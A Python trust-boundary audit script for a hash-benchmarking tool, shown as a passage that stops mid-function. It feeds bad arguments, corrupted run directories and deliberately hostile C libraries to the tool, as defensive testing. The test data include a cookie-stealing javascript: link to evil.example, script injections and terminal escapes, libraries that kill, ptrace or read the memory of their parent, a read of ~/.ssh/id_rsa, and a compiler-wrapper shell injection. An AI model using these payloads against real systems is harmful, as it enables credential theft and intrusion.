"""The trust-boundary audit (issue 27), rerun: bad input, corrupt run directories and
hostile libraries, each in a process of its own, each outcome sorted into

  clear        the documented outcome: a one-line ``ngcc: error:`` (or the expected
               result, for a case that must succeed)
  traceback    a Python traceback reached the user
  hang         no answer within the case's time limit
  main crash   the ngcc process died of a signal (a library stopped it)
  silent wrong exit status 0 (or "valid") where something was wrong
  escape       library text acted (a control character on the terminal, a live link
               or script on a page), or a file was written outside where it belongs

    python benchmarks/trust_audit.py [--only WORD] [--verbose] [--jobs N]

Prints one line per case that is not clear, then the totals and a table by class of
case (the first word of its name). Asserts nothing. Issue 36 grew it: build arguments,
the driver's isolation (every behaviour from a call and from the library's
constructor, in hash, kat, campaign and leak modes), the compiler reaching outside the
archive, faked timing, the Dask scheduler, names and the baseline, escaping, symlinks,
non-UTF-8 names and a damaged campaign.json on resume. Those cases judge the effect
(a marker the library writes only when its call succeeded, a secret's text in an
output or an evidence file, a measured figure), not the mechanism, so they hold
whatever isolation the machine gives. Issue 45's classes (``benchmarks/audit_issue45.py``,
names ending ``[45]``): libraries saved in $HOME and /tmp, environment secrets, a 1 GiB
KAT file and a linked --official one, a fork storm, a library reading its request from
the driver's memory, a caching library.
"""

from __future__ import annotations

import argparse
import collections
import dataclasses
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Callable
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests"))
from _testlib import CHANNEL_FD_SOURCE, FORGE_ERROR_STATEMENTS  # noqa: E402
from audit_issue45 import issue45_cases  # noqa: E402

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ESCAPES = "\033[2J\033]0;owned\007\033[31mFAKE PASS"
HOSTILE = ("[the log](javascript:location='//evil.example/?'+document.cookie) "
           "[d](data:text/html;base64,PHNjcmlwdD4=) ![](https://evil.example/p.png) "
           "<script>alert(1)</script> " + ESCAPES)


@dataclasses.dataclass
class Case:
    name: str
    argv: list[str]                  # run with sys.executable
    expect: str = "error"            # "error": a one-line error; "ok": exit 0; "any": either
    timeout: float = 120.0
    check: Callable[[subprocess.CompletedProcess[str]], str | None] | None = None
    serial: bool = False             # measures (a CPU lock): one such case at a time
    env: dict[str, str] | None = None  # added to the environment


def classify(case: Case) -> tuple[str, str]:
    try:
        done = subprocess.run([sys.executable, *case.argv], capture_output=True, text=True,
                              timeout=case.timeout, start_new_session=True,
                              errors="backslashreplace", env={**os.environ, **(case.env or {})})
    except subprocess.TimeoutExpired:
        return "hang", "no answer within %g s" % case.timeout
    out = done.stdout + done.stderr
    verdict = case.check(done) if case.check is not None else None
    if verdict is not None and verdict.startswith("escape: "):
        return "escape", verdict[len("escape: "):]  # the worst outcome comes first
    if done.returncode < 0 or done.returncode in (128 + 15, 128 + 9):
        return "main crash", "exit status %d" % done.returncode
    if "Traceback (most recent call last)" in out:
        return "traceback", out.strip().splitlines()[-1][:160]
    if CONTROL.search(out.replace("\n", "").replace("\t", "").replace("\r", "")):
        return "escape", "a control character reached the terminal"
    if verdict is not None:
        kind, _, why = verdict.partition(": ")
        return kind, why
    if case.expect == "ok":
        return ("clear", "") if done.returncode == 0 else (
            "silent wrong", "status %d: %s" % (done.returncode, out.strip()[-160:]))
    if case.expect == "any":  # refused or measured: what matters is what the check saw
        return "clear", ""
    if done.returncode == 0:
        return "silent wrong", "exit status 0: %s" % out.strip()[-160:]
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    if case.argv[2:3] == ["validate"] and lines and "difference(s)" in lines[-1]:
        return "clear", ""  # validate's own answer: the differences, then the count
    if case.argv[2:3] == ["leak"] and done.returncode == 1 and "  ERROR  " in done.stdout:
        return "clear", ""  # ngcc leak's own line per instance: LABEL  ERROR  cause
    if not lines or not lines[-1].startswith("ngcc: "):
        return "silent wrong", "no ngcc: line: %s" % out.strip()[-160:]
    return "clear", ""


# ------------------------------------------------------------------ the cases

def cli(*args: str) -> list[str]:
    return ["-m", "ngcc", *args]


def py(code: str) -> list[str]:
    return ["-c", textwrap.dedent(code)]


ERRORS = "NgccError, ValueError, TypeError, OSError"


def api(expression: str, exceptions: str = ERRORS) -> list[str]:
    """Python that must raise one of ``exceptions`` (printed as one ngcc: line)."""
    return py("""
        import sys, ngcc, numpy as np
        from ngcc.base.errors import *
        try:
            %s
        except (%s) as exc:
            print("ngcc: error: %%s" %% exc, file=sys.stderr); sys.exit(1)
        """ % (expression, exceptions))


def cli_cases(tmp: Path) -> list[Case]:
    bad = [("hash", "SM4", "/dev/null"), ("hash", "SM3", str(tmp / "missing")),
           ("hash", "SM3", "/dev/null", "--bits", "-1"),
           ("hash", "SM3", "/dev/null", "--bits", "9"),
           ("kat", "SM4"), ("kat", "SM3", "--files", "2_99"), ("kat", "SM3", "--official",
                                                                   str(tmp / "nodir")),
           ("leak", "SM3", "--calls", "0"), ("leak", "SM3", "--length", "0"),
           ("leak", "SM3", "--fixed", "zz"), ("leak", "SM3", "--cpu", "4096"),
           ("validate", str(tmp / "nowhere")), ("report", str(tmp / "nowhere")),
           ("compare", str(tmp / "nowhere"), str(tmp / "nowhere")),
           ("build", str(tmp / "nowhere")), ("info", "SM4"), ("campaign",)]
    for flag in ("--trial-target", "--op-budget", "--target-ci", "--kat-timeout",
                 "--trial-timeout", "--trials"):
        for value in ("inf", "nan", "0", "-1", "x"):
            bad.append(("campaign", "SM3", "--quick", "--dry-run", flag, value,
                        "--run-dir", str(tmp / "r")))
    for lengths in ("0", "-5", "1.5", "1099511627776", "x", ""):
        bad.append(("campaign", "SM3", "--quick", "--dry-run", "--lengths", lengths,
                    "--run-dir", str(tmp / "r")))
    dangling = tmp / "dangling"
    dangling.symlink_to(tmp / "missing")
    bad += [("campaign", "SM3", "--quick", "--dry-run", "--run-dir", str(dangling)),
            ("campaign", "SM3", "--quick", "--dry-run", "--target-ci", "5", "--trials", "5",
             "--max-trials", "2", "--run-dir", str(tmp / "r2")),
            ("campaign", "SM3", "--quick", "--dry-run", "--cpu", "4096")]
    cases = [Case("cli " + " ".join(a)[:70], cli(*a)) for a in bad]
    cases.append(Case("cli hash /dev/zero under a memory limit", py("""
        import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (1 << 31, 1 << 31))
        from ngcc.cli.main import main; sys.exit(main(['hash', 'SM3', '/dev/zero']))""")))
    return cases


def api_cases(tmp: Path) -> list[Case]:
    expressions = [
        "ngcc.hash(b'SM3', b'abc')", "ngcc.hash('SM3', memoryview(b'abcdef')[::2])",
        "ngcc.hash('SM3', 'text')", "ngcc.hash('SM3', b'abc', bits=-1)",
        "ngcc.hash('SM3', b'abc', bits=25)", "ngcc.hash('SM3', b'abc', bits=1.5)",
        "ngcc.hash('SM4', b'abc')", "ngcc.hash(5, b'abc')",
        "ngcc.Campaign(['SM3'], lengths=[1.5])", "ngcc.Campaign(['SM3'], lengths=[True])",
        "ngcc.Campaign(['SM3'], lengths=[])", "ngcc.Campaign(['SM3'], trials=0)",
        "ngcc.Campaign(['SM3'], trial_target=float('inf'))",
        "ngcc.Campaign(['SM3'], trials=5, max_trials=2)", "ngcc.build('%s', flags=5)" % tmp,
        "ngcc.build('%s')" % (tmp / "nowhere"), "ngcc.leak('SM3', calls=10)",
        "ngcc.leak('SM3', length=0)", "ngcc.kat.check('SM3', files=['2_99'])",
        "ngcc.load_run('%s')" % (tmp / "nowhere"),
        "ngcc.time_calls('SM3', 32, calls=-1)",
    ]
    cases = [Case("api " + e[:70], api(e)) for e in expressions]
    cases.append(Case("api hash with numpy bits", py(
        "import ngcc, numpy as np; assert ngcc.hash('SM3', b'abc', bits=np.int64(8)) == "
        "ngcc.hash('SM3', b'a')"), expect="ok"))
    return cases


def run_dir_cases(tmp: Path) -> list[Case]:
    from _fakerun import make_run

    from ngcc.evidence.run import load_run
    from ngcc.report import write as _report

    pristine = make_run(tmp / "pristine")
    _report.write_report(load_run(pristine), plots=False, formats=("markdown", "html"))
    cases = [Case("run dir pristine validates", cli("validate", str(pristine)), expect="ok")]

    def damaged(name: str, damage: Callable[[Path], None]) -> Path:
        path = tmp / ("dir-" + re.sub(r"\W+", "-", name))
        shutil.copytree(pristine, path, symlinks=True)
        damage(path)
        return path

    def first(path: Path, pattern: str) -> Path:
        return sorted(path.glob(pattern))[0]

    def fifo(path: Path) -> None:
        path.unlink()
        os.mkfifo(path)

    state = json.loads((pristine / "campaign.json").read_text())
    damages: dict[str, Callable[[Path], None]] = {
        "kat log deleted": lambda p: first(p, "kat/*/*.log").unlink(),
        "kat log forged": lambda p: first(p, "kat/*/*.log").write_text(
            "RESULT baseline SM3 PASS\n"),
        "kat log a fifo": lambda p: fifo(first(p, "kat/*/*.log")),
        "raw a fifo": lambda p: fifo(first(p, "raw/*/*.npz")),
        "record a fifo": lambda p: fifo(first(p, "records/*/*.json")),
        "campaign a fifo": lambda p: fifo(p / "campaign.json"),
        "build.json a fifo": lambda p: fifo(p / "build.json"),
        "page a fifo": lambda p: fifo(p / "report" / "index.md"),
        "raw garbage": lambda p: first(p, "raw/*/*.npz").write_bytes(b"PK\x03\x04garbage"),
        "raw deleted": lambda p: first(p, "raw/*/*.npz").unlink(),
        "record deleted": lambda p: first(p, "records/*/*.json").unlink(),
        "record truncated": lambda p: first(p, "records/*/*.json").write_text("{\"schema\":"),
        "campaign truncated": lambda p: (p / "campaign.json").write_text("{"),
        "campaign not utf-8": lambda p: (p / "campaign.json").write_bytes(b"\xff\xfe{}"),
        "jobs empty": lambda p: (p / "campaign.json").write_text(json.dumps({**state, "jobs": []})),
        "a job missing": lambda p: (p / "campaign.json").write_text(
            json.dumps({**state, "jobs": state["jobs"][1:]})),
        "calls_per_trial 10**30": lambda p: (p / "campaign.json").write_text(json.dumps(
            {**state, "jobs": [{**state["jobs"][0], "calls_per_trial": 10**30},
                               *state["jobs"][1:]]})),
        "page link to javascript:": lambda p: (p / "report" / "index.md").open("a").write(
            "[x](javascript:alert%281%29)\n"),
        "page link to data:": lambda p: (p / "report" / "index.html").open("a").write(
            '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>\n'),
        "page link to a host": lambda p: (p / "report" / "index.md").open("a").write(
            "[x](https://evil.example/)\n"),
        "page edited": lambda p: (p / "report" / "summary.md").open("a").write("edited\n"),
    }
    for depth_file in ("campaign.json", "build.json", "records/*/*.json"):
        damages["deep json in " + depth_file] = (
            lambda p, f=depth_file: first(p, f).write_bytes(b"[" * 200000))
    for name, damage in damages.items():
        path = damaged(name, damage)
        cases.append(Case("run dir %s: validate" % name, cli("validate", str(path)), timeout=60))
        if "deep" in name or "fifo" in name or "jobs" in name:
            cases.append(Case("run dir %s: report" % name, cli("report", str(path)), timeout=60,
                              expect="ok" if "page" in name or "kat log" in name or "raw" in name
                              else "error"))
    return cases


LIBRARY = CHANNEL_FD_SOURCE + r"""
__attribute__((visibility("default")))
int CryptHash(int d, const unsigned char *msg, unsigned long long bits, unsigned char *digest)
{
    volatile unsigned char sink = 0;
    (void)channel_fd; (void)sink;
    BODY
    memset(digest, msg && bits ? msg[0] : 0x5A, (size_t)d / 8);
    return 0;
}
"""

BEHAVIOURS = {
    "kills parent TERM": "kill(getppid(), SIGTERM);",
    "kills parent KILL": "kill(getppid(), SIGKILL);",
    "tgkills parent": "syscall(SYS_tgkill, getppid(), getppid(), SIGTERM);",
    "kills everything": "kill(-1, 0);",  # signal 0: harmless if it escaped
    "forged error text": FORGE_ERROR_STATEMENTS,
    "reads 1 MiB past": "sink = msg[(size_t)(bits + 7) / 8 + (1u << 20) - 1];",
    "widens affinity": "{ cpu_set_t all; int i; CPU_ZERO(&all); for (i = 0; i < 64; i++) "
                       "CPU_SET(i, &all); sched_setaffinity(0, sizeof all, &all); }",
    "forks and setsid": "{ pid_t c = fork(); if (c == 0) { setsid(); sleep(30); _exit(0); } }",
    "exits": "exit(0);",
    "crashes": "raise(SIGSEGV);",
    "hangs": "for (;;) pause();",
    "garbage on the channel": "{ int fd = channel_fd(); if (fd >= 0 && write(fd, "
                              "\"\\xff\\xff\\xff\\x7f\\xf0\\xff\\xff\\xff\", 8) < 0) return 1; }",
}


def _c_string(text: str) -> str:
    return '"' + "".join("\\x%02x" % b for b in text.encode()) + '"'


def library_cases(tmp: Path) -> list[Case]:
    from _testlib import build_library

    folder = tmp / "libs"
    folder.mkdir()
    libraries = {}
    for name, body in BEHAVIOURS.items():
        stem = re.sub(r"\W+", "_", name)
        source = ("#define TEXT %s\n" % _c_string(HOSTILE)) + LIBRARY.replace("BODY", body)
        libraries[name] = build_library(folder, stem, source)
    message = tmp / "message"
    message.write_bytes(b"abc")
    cases = []

    def no_fake_pass(done: subprocess.CompletedProcess[str]) -> str | None:
        return None  # controls are checked for every case; the words may appear escaped

    harmless = ("widens affinity", "kills everything")  # hashing unpinned, signal 0 refused
    for name, library in libraries.items():
        timeout = 60.0 if name != "hangs" else 200.0
        expect = "ok" if name == "widens affinity" else "error"
        cases.append(Case("library %s: hash" % name, cli("hash", str(library), str(message)),
                          expect=expect, timeout=timeout, check=no_fake_pass))
        if name in ("kills parent TERM", "forged error text", "hangs", *harmless):
            cases.append(Case("library %s: leak" % name, cli(
                "leak", str(library), "--calls", "4000", "--seconds", "20", "--out",
                str(tmp / ("leak-" + re.sub(r"\W+", "-", name)))), expect=expect,
                timeout=timeout))
        if name in ("kills parent TERM", "forged error text", "reads 1 MiB past"):
            run_dir = tmp / ("run-" + re.sub(r"\W+", "-", name))
            cases.append(Case("library %s: campaign" % name, cli(
                "campaign", str(library), "--quick", "--lengths", "32", "--trials", "2",
                "--allow-kat-fail", "--quiet", "--run-dir", str(run_dir)), timeout=300,
                check=_pages_inert(run_dir)))
    cases.append(Case("library widens affinity: flagged", py("""
        import os, sys, warnings
        from ngcc.campaign.campaign import Campaign
        warnings.simplefilter("ignore")
        run = Campaign([%r], lengths=[32], trials=2, quick=True, allow_kat_fail=True,
                       run_dir=%r, progress=False).run()
        codes = {f.code for r in run.records for f in r.statistics.flags}
        sys.exit(0 if "affinity_changed" in codes or len(os.sched_getaffinity(0)) < 2 else 3)
        """ % (str(libraries["widens affinity"]), str(tmp / "affinity-run"))), expect="ok",
        timeout=300))
    cases.append(Case("fake driver: one tick per call", py("""
        import sys, textwrap
        sys.path.insert(0, %r)
        from _testlib import fake_driver
        from pathlib import Path
        import ngcc
        from ngcc.driver import child as _child
        from ngcc.driver import facts as _facts
        from ngcc.driver import process as _process
        from ngcc.driver import protocol as _protocol
        _, floor, frequency = _facts.counter_floor()
        fields = {name: 0 for name, _ in _protocol.TRIAL_FIELDS}
        fields.update(cpu=-1, counter_id=1, calls=100, frequency_hz=frequency,
                      overhead_min_ticks=4 * floor, overhead_median_ticks=4 * floor,
                      loop_ticks=100, loop_ns=100, baseline_rss_kib=1, peak_rss_kib=1)
        values = [fields[name] for name, _ in _protocol.TRIAL_FIELDS]
        body = textwrap.dedent('''
            frame(1, struct.pack('<II', 1, pid)); frame(2)
            facts = %%r
            facts[0] = pid
            frame(7, struct.pack(%%r, *facts)); frame(8, struct.pack('<Q', 1) * 100)
            frame(16, bytes(64)); frame(13)  # TRIAL_DIGEST: the forgery's facts are judged
        ''') %% (values, _protocol.TRIAL_LAYOUT.format)
        _process.DRIVER = fake_driver(Path(%r), body)
        try:
            _child.trial(ngcc.instance("SM3"), 32, 100, 0, batch_calls=0)
        except _process.DriverError as exc:
            print("ngcc: error: %%s" %% exc, file=sys.stderr)
            sys.exit(1 if exc.status == "protocol" else 3)
        """ % (str(REPO / "tests"), str(tmp)))))
    return cases


def _pages_inert(run_dir: Path) -> Callable[[subprocess.CompletedProcess[str]], str | None]:
    def check(done: subprocess.CompletedProcess[str]) -> str | None:
        if done.returncode < 0:
            return None
        report = subprocess.run([sys.executable, "-m", "ngcc", "report", str(run_dir),
                                 "--format", "markdown", "--format", "html", "--no-plots"],
                                capture_output=True, text=True, timeout=120)
        if report.returncode not in (0, 1):
            return "silent wrong: ngcc report exited %d" % report.returncode
        from ngcc.base import untrusted as _untrusted
        for page in sorted((run_dir / "report").glob("*.*")):
            text = page.read_text(encoding="utf-8", errors="replace")
            if CONTROL.search(text.replace("\n", "").replace("\t", "")):
                return "escape: a control character in %s" % page.name
            if page.suffix == ".html":
                if "<script" in text:
                    return "escape: a script in %s" % page.name
                for target in re.findall(r"""\bhref\s*=\s*["']([^"']*)["']""", text):
                    if not _untrusted.local_href(target):
                        return "escape: a live link to %s in %s" % (target, page.name)
            else:
                outside = _untrusted.CODE_SPAN.sub("", text)
                if "](javascript:" in outside or "](data:" in outside or "<script" in outside:
                    return "escape: live library text in %s" % page.name
        valid = subprocess.run([sys.executable, "-m", "ngcc", "validate", str(run_dir)],
                               capture_output=True, text=True, timeout=120)
        if valid.returncode != 0:
            return "silent wrong: validate of the hostile run: %s" % valid.stderr[-200:]
        return None
    return check


# ------------------------------------------------------------------ issue 36
# Each case below judges the outcome, not the mechanism: a library's action on ngcc or
# the evaluator's files counts as an escape when its effect is seen (a marker file the
# library writes only when the forbidden call succeeded, on a path outside any scratch
# folder; a secret's text in an output or an evidence file), whatever isolation ran.

ISOLATION_PRELUDE = CHANNEL_FD_SOURCE + r"""
#include <errno.h>
#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#define MARKS MARKS_DIR
static void mark(const char *name)
{
    char path[512];
    FILE *f;
    snprintf(path, sizeof path, "%s/%s", MARKS, name);
    f = fopen(path, "w");
    if (f) { fprintf(f, "%d\n", (int)getpid()); fclose(f); }
}
static void forge_error(const char *text)
{
    unsigned char frame[8 + 8 + 256 + 8];
    size_t n = strlen(text) > 256 ? 256 : strlen(text);
    unsigned int length = (unsigned int)(8 + n);
    int fd = channel_fd();
    memset(frame, 0, sizeof frame);
    frame[0] = 3;
    memcpy(frame + 4, &length, 4);
    frame[8] = 3;
    memcpy(frame + 16, text, n);
    frame[16 + n] = 13;
    if (fd >= 0 && write(fd, frame, 16 + n + 8) < 0)
        _exit(1);
    _exit(0);
}
static void act(void)
{
    static int done;
    pid_t parent = getppid();
    if (done++)
        return;
    (void)parent;
    BODY
}
__attribute__((constructor)) static void on_load(void)
{
    if (FROM_CONSTRUCTOR)
        act();
}
__attribute__((visibility("default")))
int CryptHash(int d, const unsigned char *msg, unsigned long long bits, unsigned char *digest)
{
    act();
    memset(digest, msg && bits ? msg[0] : 0x5A, (size_t)d / 8);
    return 0;
}
"""

# What each library tries on ngcc (its parent, when it can see it: a parent outside its
# PID namespace is pid 0) and on the evaluator's machine; mark(name) only on success.
ISOLATION = {
    "prlimit of ngcc": "{ struct rlimit r; if (parent > 1 && prlimit(parent, RLIMIT_FSIZE, "
                       "NULL, &r) == 0 && prlimit(parent, RLIMIT_FSIZE, &r, NULL) == 0) "
                       "mark(\"prlimit\"); }",
    "setpriority of ngcc": "{ int p; errno = 0; p = getpriority(PRIO_PROCESS, (id_t)parent); "
                           "if (parent > 1 && errno == 0 && setpriority(PRIO_PROCESS, "
                           "(id_t)parent, p) == 0) mark(\"setpriority\"); }",
    "affinity of ngcc": "{ cpu_set_t s; if (parent > 1 && sched_getaffinity(parent, sizeof s, "
                        "&s) == 0 && sched_setaffinity(parent, sizeof s, &s) == 0) "
                        "mark(\"affinity\"); }",
    "ptrace of ngcc": "{ if (parent > 1 && ptrace(PTRACE_SEIZE, parent, 0, 0) == 0) "
                      "mark(\"ptrace\"); }",
    "process_vm_readv of ngcc": (
        "{ char maps[64], line[256]; FILE *f; unsigned long start = 0; "
        "snprintf(maps, sizeof maps, \"/proc/%d/maps\", (int)parent); f = fopen(maps, \"r\"); "
        "if (f && fgets(line, sizeof line, f)) start = strtoul(line, NULL, 16); if (f) fclose(f); "
        "if (parent > 1 && start) { char buf[8]; struct iovec l = {buf, 8}, "
        "r = {(void *)start, 8}; "
        "if (process_vm_readv(parent, &l, 1, &r, 1, 0) == 8) mark(\"vm_readv\"); } }"),
    "SIGTERM to ngcc by F_SETOWN": (
        "{ int p[2]; if (parent > 1 && pipe(p) == 0 && fcntl(p[0], F_SETOWN, parent) == 0 "
        "&& fcntl(p[0], F_SETSIG, SIGTERM) == 0 && fcntl(p[0], F_SETFL, O_ASYNC) == 0) "
        "{ if (write(p[1], \"x\", 1) == 1) mark(\"setown\"); usleep(200000); } }"),
    "kill of ngcc": "{ if (parent > 1 && kill(parent, 0) == 0) mark(\"kill\"); }",
    "loopback network": (
        "{ struct sockaddr_in a; int s = socket(AF_INET, SOCK_STREAM, 0); memset(&a, 0, "
        "sizeof a); a.sin_family = AF_INET; a.sin_port = htons(LISTEN_PORT); "
        "a.sin_addr.s_addr = htonl(INADDR_LOOPBACK); if (s >= 0 && connect(s, (struct "
        "sockaddr *)&a, sizeof a) == 0) mark(\"network\"); if (s >= 0) close(s); }"),
    "forked child outlives ngcc": (
        "{ pid_t c = fork(); if (c == 0) { setsid(); prctl(PR_SET_PDEATHSIG, 0); sleep(4); "
        "mark(\"survivor\"); _exit(0); } }"),
    "reads ~/.ssh": (
        "{ char path[512], line[200] = \"\"; const char *home = getenv(\"HOME\"); FILE *f; "
        "snprintf(path, sizeof path, \"%s/.ssh/id_rsa\", home ? home : FAKE_HOME); "
        "f = fopen(path, \"r\"); if (!f) { snprintf(path, sizeof path, \"%s/.ssh/id_rsa\", "
        "FAKE_HOME); f = fopen(path, \"r\"); } if (f && fgets(line, sizeof line, f)) "
        "{ fclose(f); line[strcspn(line, \"\\n\")] = 0; forge_error(line); } if (f) fclose(f); }"),
}
SSH_SECRET = "AUDIT-SSH-SECRET-7a41"
MARK_OF = {"prlimit of ngcc": "prlimit", "setpriority of ngcc": "setpriority",
           "affinity of ngcc": "affinity", "ptrace of ngcc": "ptrace",
           "process_vm_readv of ngcc": "vm_readv", "SIGTERM to ngcc by F_SETOWN": "setown",
           "kill of ngcc": "kill", "loopback network": "network",
           "forked child outlives ngcc": "survivor"}


def _listener() -> int:
    """A loopback TCP port that accepts (and drops) every connection, for the audit's
    lifetime: a library that reaches it had the evaluator's network."""
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)

    def serve() -> None:
        while True:
            connection, _ = server.accept()
            connection.close()

    threading.Thread(target=serve, daemon=True).start()
    return int(server.getsockname()[1])


def _marked(marks: Path, name: str, wait: float = 0.0) -> Callable[
        [subprocess.CompletedProcess[str]], str | None]:
    def check(done: subprocess.CompletedProcess[str]) -> str | None:
        import time
        time.sleep(wait)
        if (marks / name).exists():
            return "escape: the library's call reached outside (%s marked)" % name
        return None
    return check


def _no_secret(secret: str, *folders: Path) -> Callable[
        [subprocess.CompletedProcess[str]], str | None]:
    def check(done: subprocess.CompletedProcess[str]) -> str | None:
        if secret in done.stdout + done.stderr:
            return "escape: the secret reached the terminal"
        for folder in folders:
            for path in (folder.rglob("*") if folder.is_dir() else []):
                if path.is_file() and secret.encode() in path.read_bytes():
                    return "escape: the secret is in %s" % path.name
        return None
    return check


def _isolation_case(name: str, where: str, mode: str, argv: list[str], library: Path,
                    source: str, folder: Path, marks: Path, run_dir: Path,
                    env: dict[str, str]) -> Case:
    """One behaviour in one mode: a library of its own whose marker names the mode."""
    from _testlib import build_library

    title = "isolation %s%s: %s" % (name, where, mode)
    serial = mode in ("campaign", "leak")
    mark_name = MARK_OF.get(name)
    if mark_name is None:  # reads ~/.ssh: the secret must reach no output, no evidence
        return Case(title, argv, expect="any", timeout=240, serial=serial, env=env,
                    check=_no_secret(SSH_SECRET, run_dir))
    unique = "%s-%s-%s" % (mark_name, mode, "ctor" if where else "call")
    own = build_library(folder, "%s_%s" % (library.stem, mode), source.replace(
        'mark("%s")' % mark_name, 'mark("%s")' % unique))
    return Case(title, [str(own) if a == str(library) else a for a in argv], expect="any",
                timeout=240, serial=serial, env=env,
                check=_marked(marks, unique, wait=6.0 if mark_name == "survivor" else 0.0))


def isolation_cases(tmp: Path) -> list[Case]:
    from _testlib import build_library

    folder, marks, home = tmp / "iso", tmp / "marks", tmp / "home"
    for path in (folder, marks, home / ".ssh"):
        path.mkdir(parents=True, exist_ok=True)
    (home / ".ssh" / "id_rsa").write_text(SSH_SECRET + "\nrest of the key\n")
    port = _listener()
    message = tmp / "iso-message"
    message.write_bytes(b"abc")
    cases = []
    for name, body in ISOLATION.items():
        for constructor in (0, 1):
            stem = re.sub(r"\W+", "_", name) + ("_ctor" if constructor else "")
            source = ("#define MARKS_DIR %s\n#define FAKE_HOME %s\n#define LISTEN_PORT %d\n"
                      "#define FROM_CONSTRUCTOR %d\n" % (_c_string(str(marks)),
                                                         _c_string(str(home)), port,
                                                         constructor)
                      + ISOLATION_PRELUDE.replace("BODY", body))
            # (a shared object's constructor may not call _exit: it is in ngcc's loader)
            library = build_library(folder, stem, source)
            where = " (constructor)" if constructor else ""
            modes = {"hash": cli("hash", str(library), str(message)),
                     "kat": cli("kat", str(library), "--files", "2_12")}
            if not constructor:
                run_dir = tmp / ("iso-run-" + stem)
                modes["campaign"] = cli("campaign", str(library), "--quick", "--lengths", "32",
                                        "--trials", "2", "--allow-kat-fail", "--quiet",
                                        "--run-dir", str(run_dir))
                modes["leak"] = cli("leak", str(library), "--calls", "2000", "--seconds", "10",
                                    "--out", str(tmp / ("iso-leak-" + stem)))
            for mode, argv in modes.items():
                cases.append(_isolation_case(name, where, mode, argv, library, source,
                                             folder, marks, tmp / ("iso-run-" + stem),
                                             {"HOME": str(home)}))
    return cases


def build_argument_cases(tmp: Path) -> list[Case]:
    """An archive folder whose file names are compiler options, or whose sources reach
    a file outside the archive."""
    marker = tmp / "wrapper-ran"
    secret = tmp / "compiler-secret.txt"
    secret.write_text("AUDITCOMPILERSECRET93c2 key;\n")  # gcc quotes an unknown type
    base = Path(REPO / "tests" / "fixtures" / "archive" / "Tiny Hash" /
                "Implementations and Test_Vectors" / "API_CryptHash" /
                "Reference_Implementation" / "TinyHash-256")
    cases = []
    response = tmp / "build-response"
    shutil.copytree(base, response)
    (response / "@opts.c").write_text("")
    (response / "opts.c").write_text('-wrapper "/bin/sh,-c,touch %s"\n' % marker)
    cases.append(Case("build @FILE response file runs a wrapper", cli(
        "build", str(response), "--out", str(tmp / "out-response")), expect="any",
        check=lambda done: ("escape: the wrapper command ran" if marker.exists() else None)))
    dashed = tmp / "build-dashed"
    shutil.copytree(base, dashed)
    (dashed / "-fplugin=x.c").write_text("int x;\n")
    cases.append(Case("build a file named -fplugin=x.c", cli(
        "build", str(dashed), "--out", str(tmp / "out-dashed"))))
    including = tmp / "build-include"
    shutil.copytree(base, including)
    source = including / "CryptHash_AlgorithmInstance.c"
    source.write_text('#include "%s"\n' % secret + source.read_text())
    cases.append(Case("build #include of a file outside the archive", cli(
        "build", str(including), "--out", str(tmp / "out-include")), expect="any",
        check=_no_secret("AUDITCOMPILERSECRET", tmp / "out-include")))
    linked = tmp / "build-linked-header"
    shutil.copytree(base, linked)
    (linked / "extra.h").symlink_to(secret)
    cases.append(Case("build a header linked out of the folder", cli(
        "build", str(linked), "--out", str(tmp / "out-linked"))))
    return cases


HONEST_SOURCE = r"""
#include <string.h>
static unsigned long long streak, last_bits;
__attribute__((visibility("default")))
int CryptHash(int d, const unsigned char *msg, unsigned long long bits, unsigned char *digest)
{
    unsigned long long h = 1469598103934665603ULL, i, n = bits / 8;
    streak = bits == last_bits ? streak + 1 : 0;
    last_bits = bits;
    if (CHEAT && streak > 8 && n > 64)
        n = 64;  /* timed: a long run of calls of one length hashes only 512 bits */
    for (i = 0; i < n; i++)
        h = (h ^ msg[i]) * 1099511628211ULL;
    for (i = 0; i < (unsigned long long)d / 8; i++)
        digest[i] = (unsigned char)(h >> (8 * (i % 8)));
    return 0;
}
"""


def _record_cycles(run_dir: Path, label: str, length: int) -> float | None:
    from ngcc.evidence.run import load_run

    try:
        return float(load_run(run_dir).record(label, length).statistics.mean_cycles)
    except Exception:
        return None


def timing_cases(tmp: Path) -> list[Case]:
    from _testlib import build_library

    folder = tmp / "timing"
    folder.mkdir()
    honest = build_library(folder, "Honest-256", "#define CHEAT 0\n" + HONEST_SOURCE)
    cheat = build_library(folder, "Cheat-256", "#define CHEAT 1\n" + HONEST_SOURCE)
    run_dir = tmp / "timing-run"

    def cheat_caught(done: subprocess.CompletedProcess[str]) -> str | None:
        fair, faked = (_record_cycles(run_dir, name, 65536) for name in ("Honest-256",
                                                                         "Cheat-256"))
        if done.returncode == 0 and fair and faked and faked < 0.6 * fair:  # (same code)
            return "silent wrong: the cheat's 64 KiB call timed at %.0f vs %.0f honest" % (
                faked, fair)
        return None
    cases = [Case("timing a library hashing less in long runs", cli(
        "campaign", str(honest), str(cheat), "--quick", "--lengths", "65536", "--trials", "2",
        "--allow-kat-fail", "--quiet", "--run-dir", str(run_dir)), expect="any", timeout=400,
        check=cheat_caught, serial=True)]

    victim = build_library(folder, "Victim-256", "#define CHEAT 0\n" + HONEST_SOURCE)
    slow = build_library(folder, "Slow-256", "#define CHEAT 0\n" + HONEST_SOURCE.replace(
        "for (i = 0; i < n; i++)", "for (volatile int w = 0; w < 200000; w++) {}\n"
        "    for (i = 0; i < n; i++)"), sidecar=False)
    swap = "{ static int once; if (!once++) rename(%s, %s); }\n    streak = bits" % (
        _c_string(str(slow)), _c_string(str(victim)))
    swapper = build_library(folder, "Swapper-256", "#include <stdio.h>\n#define CHEAT 0\n"
                            + HONEST_SOURCE.replace("streak = bits", swap))
    swap_dir = tmp / "swap-run"

    def swap_caught(done: subprocess.CompletedProcess[str]) -> str | None:
        from ngcc.base.files import sha256_file
        from ngcc.evidence.run import load_run

        if done.returncode != 0 or not victim.exists():
            return None
        try:
